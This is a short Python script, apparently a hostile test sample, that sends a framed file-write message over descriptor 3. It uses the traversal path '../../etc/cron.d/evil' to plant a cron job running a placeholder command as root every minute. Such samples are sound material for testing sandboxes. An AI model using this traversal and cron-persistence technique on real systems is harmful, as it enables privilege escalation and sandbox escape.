import os
import struct


def main():
    path = b"../../etc/cron.d/evil"
    data = b"* * * * * root sh -c pwned"
    os.write(3, b"Ff" + struct.pack("<IQ", len(path), len(data)) + path + data)
    return {}
